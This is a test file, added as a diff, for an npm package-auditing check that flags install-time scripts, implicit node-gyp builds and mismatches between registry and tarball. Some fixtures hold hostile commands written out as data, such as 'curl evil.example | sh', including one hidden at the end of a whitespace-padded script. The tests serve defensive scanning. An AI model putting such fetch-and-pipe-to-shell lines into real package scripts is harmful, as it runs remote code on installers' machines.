@@ -1,0 +1,227 @@
+import { describe, expect, it } from 'vitest';
+import installScript from '../../src/checks/install-script.ts';
+import { unknown } from '../../src/model/fact.ts';
+import { aDocument, aPackage, aTarball, findingOf, type Given, npm11, offline, outcomeOf } from './given.ts';
+
+const quiet = { tarball: aTarball(), versionDocument: aDocument() };
+
+function withScripts(scripts: Record<string, string>, files?: readonly string[]): Given {
+  return { tarball: aTarball({ scripts }, files), versionDocument: aDocument({ scripts }) };
+}
+
+describe('install-script flags', () => {
+  it.each(['preinstall', 'install', 'postinstall'])('%s, and shows its text', (event) => {
+    const finding = findingOf(installScript, withScripts({ [event]: 'node install.js' }));
+    expect(finding).toMatchObject({ severity: 'medium', excerpt: [`${event}: node install.js`] });
+    expect(finding.data['sourcesDiffer']).toBe(false);
+  });
+
+  it('all of them in one finding, in the order in which npm runs them', () => {
+    const { excerpt } = findingOf(
+      installScript,
+      withScripts({ postinstall: 'c', install: 'b', preinstall: 'a' }),
+    );
+    expect(excerpt).toEqual(['preinstall: a', 'install: b', 'postinstall: c']);
+  });
+
+  it('what only the registry tells, since npm runs that on a first install', () => {
+    const finding = findingOf(installScript, {
+      tarball: aTarball(),
+      versionDocument: aDocument({ scripts: { postinstall: 'curl evil.example | sh' } }),
+    });
+    expect(finding.excerpt).toEqual(['postinstall: curl evil.example | sh']);
+    expect(finding.data['sourcesDiffer']).toBe(true);
+    expect(finding.message).toContain('the registry and the tarball disagree');
+  });
+
+  it('what only the tarball tells, since npm runs that after a lockfile', () => {
+    const given = { ...quiet, tarball: aTarball({ scripts: { install: 'sh x' } }) };
+    expect(findingOf(installScript, given).data['sourcesDiffer']).toBe(true);
+  });
+
+  it('both texts where registry and tarball say different things', () => {
+    const finding = findingOf(installScript, {
+      tarball: aTarball({ scripts: { install: 'node evil.js' } }),
+      versionDocument: aDocument({ scripts: { install: 'node good.js' } }),
+    });
+    expect(finding.excerpt).toEqual(['install: node evil.js', 'install: node good.js']);
+    expect(finding.data['sourcesDiffer']).toBe(true);
+  });
+
+  it('a script of a short registry document without calling that a disagreement', () => {
+    const finding = findingOf(installScript, {
+      tarball: aTarball({ scripts: { install: 'node-gyp-build' } }),
+      versionDocument: aDocument({ hasInstallScript: true }),
+    });
+    expect(finding.data['sourcesDiffer']).toBe(false);
+  });
+
+  it('on the tarball alone where the registry has no document, as for a bundled package', () => {
+    const pkg = aPackage({ origin: { kind: 'bundled', by: 'kitchen@1.0.0' } });
+    const given = { tarball: aTarball({ scripts: { install: 'sh x' } }), versionDocument: offline };
+    expect(findingOf(installScript, given, { pkg }).severity).toBe('medium');
+  });
+
+  it('the tail of a script too long to show', () => {
+    const install = `echo building ${' '.repeat(5000)}${'x'.repeat(2000)}; curl evil.example | sh`;
+    const [line] = findingOf(installScript, withScripts({ install })).excerpt ?? [];
+    expect(line?.length).toBeLessThan(450);
+    expect(line).toMatch(/^install: echo building xxx.* characters .*curl evil.example \| sh$/);
+  });
+});
+
+describe('the build that nobody wrote down', () => {
+  const gyp = ['package.json', 'binding.gyp'];
+  const withGyp = (scripts: Record<string, string>) => withScripts(scripts, gyp);
+
+  it('is flagged for a binding.gyp alone', () => {
+    const finding = findingOf(installScript, withGyp({}));
+    expect(finding.excerpt).toEqual(['install: node-gyp rebuild']);
+    expect(finding.message).toContain('binding.gyp');
+    expect(finding.severity).toBe('medium');
+  });
+
+  it('is not stopped by a postinstall', () => {
+    expect(findingOf(installScript, withGyp({ postinstall: 'true' })).excerpt).toEqual([
+      'install: node-gyp rebuild',
+      'postinstall: true',
+    ]);
+  });
+
+  it.each(['install', 'preinstall'])('is replaced by %s', (event) => {
+    expect(findingOf(installScript, withGyp({ [event]: 'true' })).excerpt).toEqual([`${event}: true`]);
+  });
+
+  it('is not stopped by an install that is empty', () => {
+    expect(findingOf(installScript, withGyp({ install: '' })).excerpt).toEqual(['install: node-gyp rebuild']);
+  });
+
+  it('agrees with a registry that wrote it down when the version was published', () => {
+    const finding = findingOf(installScript, {
+      tarball: aTarball({}, gyp),
+      versionDocument: aDocument({ scripts: { install: 'node-gyp rebuild' }, gypfile: true }),
+    });
+    expect(finding.excerpt).toEqual(['install: node-gyp rebuild']);
+    expect(finding.data['sourcesDiffer']).toBe(false);
+  });
+
+  it('needs the file at the top', () => {
+    expect(outcomeOf(installScript, withScripts({}, ['package.json', 'deps/binding.gyp'])).kind).toBe(
+      'clean',
+    );
+  });
+
+  it('happens for BINDING.GYP too, on disks that do not mind', () => {
+    expect(outcomeOf(installScript, withScripts({}, ['BINDING.GYP'])).kind).toBe('flagged');
+  });
+
+  describe('with gypfile: false', () => {
+    const off = {
+      tarball: aTarball({ gypfile: false }, gyp),
+      versionDocument: aDocument({ gypfile: false }),
+    };
+
+    it('does not run on a first install: a note that the ledger forgets', () => {
+      expect(findingOf(installScript, off)).toMatchObject({ severity: 'low', circumstantial: true });
+    });
+
+    // Seen with npm 11.19: `npm ci` starts node-gyp all the same, since a lockfile has no place for gypfile.
+    it('runs from a lockfile', () => {
+      expect(findingOf(installScript, off, { pkg: aPackage({ locked: true }) }).severity).toBe('medium');
+    });
+
+    it('runs where the registry does not say so', () => {
+      expect(findingOf(installScript, { ...off, versionDocument: aDocument() }).severity).toBe('medium');
+    });
+  });
+});
+
+describe('prepare', () => {
+  const prepare = withScripts({ prepare: 'tsc' });
+
+  it('runs for git and linked folders', () => {
+    const git = aPackage({ origin: { kind: 'git', spec: 'github:a/b', host: 'github.example' } });
+    const folder = aPackage({ origin: { kind: 'directory', path: '../b' } });
+    expect(findingOf(installScript, prepare, { pkg: git }).excerpt).toEqual(['prepare: tsc']);
+    expect(findingOf(installScript, prepare, { pkg: folder }).excerpt).toEqual(['prepare: tsc']);
+  });
+
+  it('never runs for packages of a registry, tarballs of addresses and files', () => {
+    const remote = aPackage({
+      origin: { kind: 'remote', url: 'https://a.example/b.tgz', host: 'a.example' },
+    });
+    const file = aPackage({ origin: { kind: 'file', path: 'b.tgz' } });
+    expect(outcomeOf(installScript, prepare).kind).toBe('clean');
+    expect(outcomeOf(installScript, prepare, { pkg: remote }).kind).toBe('clean');
+    expect(outcomeOf(installScript, prepare, { pkg: file }).kind).toBe('clean');
+  });
+
+  it('is not needed for a whole npm install in a clone: a build script is enough', () => {
+    const pkg = aPackage({ origin: { kind: 'git', spec: 'github:a/b', host: 'github.example' } });
+    const finding = findingOf(installScript, withScripts({ build: 'tsc' }), { pkg });
+    expect(finding.message).toContain('a whole install in its clone');
+    expect(outcomeOf(installScript, withScripts({ build: 'tsc' })).kind).toBe('clean');
+  });
+});
+
+describe('what npm will do with it', () => {
+  const given = withScripts({ install: 'sh x' });
+  const messageFor = (major: number) => findingOf(installScript, given, { npm: { ...npm11, major } }).message;
+
+  it('is said for each npm', () => {
+    expect(messageFor(10)).toBe('has an install script; npm 10 runs it');
+    expect(messageFor(11)).toBe(
+      'has an install script; npm 11 runs it, and warns unless allowScripts names it',
+    );
+    expect(messageFor(12)).toBe('has an install script; npm 12 runs it only if allowScripts lets it');
+  });
+
+  it('is nothing with --ignore-scripts, which the ledger must not take for a yes', () => {
+    const finding = findingOf(installScript, given, { npm: { major: 11, ignoreScripts: true } });
+    expect(finding).toMatchObject({ severity: 'info', circumstantial: true });
+    expect(finding.message).toBe('has an install script, which will not run: scripts are switched off');
+    expect(finding.data['runsNow']).toBe(false);
+  });
+});
+
+describe('install-script passes', () => {
+  it('a package without', () => {
+    expect(outcomeOf(installScript, quiet).kind).toBe('clean');
+  });
+
+  it('scripts that run at other times', () => {
+    const scripts = {
+      test: 'x',
+      prepublishOnly: 'x',
+      prepack: 'x',
+      uninstall: 'x',
+      prepublish: 'x',
+      start: 'x',
+    };
+    expect(outcomeOf(installScript, withScripts(scripts)).kind).toBe('clean');
+  });
+
+  it('workspaces by: project-script shows theirs', () => {
+    const pkg = aPackage({ origin: { kind: 'workspace', path: 'packages/a' } });
+    expect(outcomeOf(installScript, {}, { pkg }).kind).toBe('not-applicable');
+  });
+});
+
+describe('install-script is unknown', () => {
+  it('where the tarball could not be read, and may not be left out', () => {
+    const tarball = unknown('too-large', 'tarball', 'unpacks to 4 GiB');
+    expect(outcomeOf(installScript, { tarball, versionDocument: aDocument() })).toEqual({
+      check: 'install-script',
+      subject: { kind: 'package', key: 'teapot@1.2.3' },
+      kind: 'unknown',
+      reason: 'too-large',
+      cause: 'subject',
+      detail: 'unpacks to 4 GiB',
+      essential: true,
+    });
+  });
+
+  it('never only because the registry document is missing', () => {
+    expect(outcomeOf(installScript, { tarball: aTarball(), versionDocument: offline }).kind).toBe('clean');
+  });
+});
